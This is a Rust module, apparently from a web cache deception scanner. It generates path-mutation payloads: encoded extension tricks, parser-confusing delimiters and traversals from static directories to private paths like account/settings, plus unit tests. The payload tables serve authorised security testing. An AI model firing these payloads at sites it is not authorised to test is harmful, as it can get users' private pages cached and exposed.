//! Payload tables and the three path-mutation strategies

/// Static file extensions a cache is likely to store
pub const EXTENSIONS: &[&str] = &[
    "css", "js", "jpg", "png", "gif", "ico", "woff", "woff2", "ttf", "eot", "svg", "otf",
    "mp3", "mp4", "webm", "ogg", "wav", "flac", "avi", "mov", "mkv",
    "zip", "rar", "tar", "gz", "bz2", "xz", "7z", "iso",
    "doc", "docx", "xls", "xlsx", "ppt", "pptx", "pdf", "rtf",
    "class", "jar", "war", "ear", "exe", "dll", "so", "deb", "rpm",
    "json", "xml", "csv", "txt", "log", "conf", "yaml", "yml", "ini",
];

/// Prefixes placed in front of an extension to confuse path parsing
pub const EXT_PAYLOADS: &[&str] = &[
    "/.", "/%2e", "%2f.", "%2f%2e", "/test.", "/тест.", "/test%2e", "/тест%2e", "/测试.",
    "/测试%2e", "%2ftest.", "%2fтест.", "%2f测试.", "/%252e", "/%252f",
];

/// Delimiters that origin and cache may disagree on
pub const DELIMITERS: &[&str] = &[
    "/", "/.", "/..", ";", "?", "#", "%2e", "%2f", "%3b", "%23", "%3f", "%c0%af", "%e3%80%82",
    "%ef%bc%8f", "%00",
];

/// Files commonly cached by rule
pub const COMMON_FILES: &[&str] = &[
    "robots.txt",
    "index.html",
    "index.php",
    "sitemap.xml",
    "favicon.ico",
    "style.css",
    "script.js",
];

/// Traversals placed between a static directory and the target path.
/// Each form appears once; repeated `..%2f` variants are not listed twice.
pub const TRAVERSAL_PAYLOADS: &[&str] = &[
    "/../", "../", "/../../", "../../", "/../../../", "../../../",
    "/..%2f", "..%2f", "/../..%2f", "../..%2f", "/../../..%2f", "../../..%2f",
];

/// Directories frequently covered by static caching rules
pub const WELL_KNOWN_STATIC_DIRS: &[&str] =
    &["/static", "/assets", "/cdn-cgi", "/media", "/resources"];

/// Every extension-confusion prefix combined with every extension
pub fn extension_payloads() -> Vec<String> {
    EXTENSIONS
        .iter()
        .flat_map(|ext| EXT_PAYLOADS.iter().map(move |prefix| format!("{prefix}{ext}")))
        .collect()
}

/// Delimiter variations in front of each common file, plus a few query and
/// matrix-parameter forms
pub fn delimiter_payloads() -> Vec<String> {
    let mut payloads = Vec::new();

    for file in COMMON_FILES {
        for delim in DELIMITERS {
            payloads.push(format!("{delim}{file}"));
            payloads.push(format!("{delim}{delim}{file}"));
            payloads.push(format!("/..{delim}{file}"));
            payloads.push(format!("{delim}/../{file}"));
        }

        payloads.push(format!("?{file}"));
        payloads.push(format!(";{file}"));
        payloads.push(format!("%3b{file}"));
        payloads.push(format!("?_={file}"));
        payloads.push(format!("?version={file}"));
    }

    payloads
}

/// Each static directory joined with each traversal and the target path
/// (without its leading slash)
pub fn static_path_payloads(static_dirs: &[String], relevant_path: &str) -> Vec<String> {
    static_dirs
        .iter()
        .flat_map(|dir| {
            TRAVERSAL_PAYLOADS
                .iter()
                .map(move |traversal| format!("{dir}{traversal}{relevant_path}"))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_extension_payload_count() {
        let payloads = extension_payloads();
        assert_eq!(payloads.len(), EXTENSIONS.len() * EXT_PAYLOADS.len());
        assert_eq!(payloads.len(), 825);
    }

    #[test]
    fn test_extension_payload_is_prefix_plus_extension() {
        let payloads = extension_payloads();
        assert_eq!(payloads[0], "/.css");
        assert!(payloads.contains(&"%2f%2ejs".to_string()));
        assert!(payloads.contains(&"/тест.ini".to_string()));
        for ext in EXTENSIONS {
            for prefix in EXT_PAYLOADS {
                assert!(payloads.contains(&format!("{prefix}{ext}")));
            }
        }
    }

    #[test]
    fn test_delimiter_payloads() {
        let payloads = delimiter_payloads();
        assert_eq!(
            payloads.len(),
            COMMON_FILES.len() * (DELIMITERS.len() * 4 + 5)
        );
        assert!(payloads.contains(&";robots.txt".to_string()));
        assert!(payloads.contains(&";;robots.txt".to_string()));
        assert!(payloads.contains(&"/..;robots.txt".to_string()));
        assert!(payloads.contains(&";/../robots.txt".to_string()));
        assert!(payloads.contains(&"%c0%af%c0%afindex.html".to_string()));
        assert!(payloads.contains(&"?version=script.js".to_string()));
        assert!(payloads.contains(&"?_=favicon.ico".to_string()));
        assert!(payloads.iter().all(|p| !p.is_empty()));
    }

    #[test]
    fn test_static_path_payloads() {
        let dirs = vec!["/static".to_string(), "/a/b".to_string()];
        let payloads = static_path_payloads(&dirs, "account/settings");
        assert_eq!(payloads.len(), 2 * TRAVERSAL_PAYLOADS.len());
        assert_eq!(payloads[0], "/static/../account/settings");
        assert!(payloads.contains(&"/a/b..%2faccount/settings".to_string()));
        assert!(payloads.contains(&"/a/b/../../..%2faccount/settings".to_string()));
    }

    #[test]
    fn test_traversal_payloads_are_unique() {
        let unique: std::collections::HashSet<_> = TRAVERSAL_PAYLOADS.iter().collect();
        assert_eq!(unique.len(), TRAVERSAL_PAYLOADS.len());
        assert_eq!(TRAVERSAL_PAYLOADS.len(), 12);
    }

    #[test]
    fn test_static_path_payloads_without_dirs() {
        assert!(static_path_payloads(&[], "account").is_empty());
    }
}
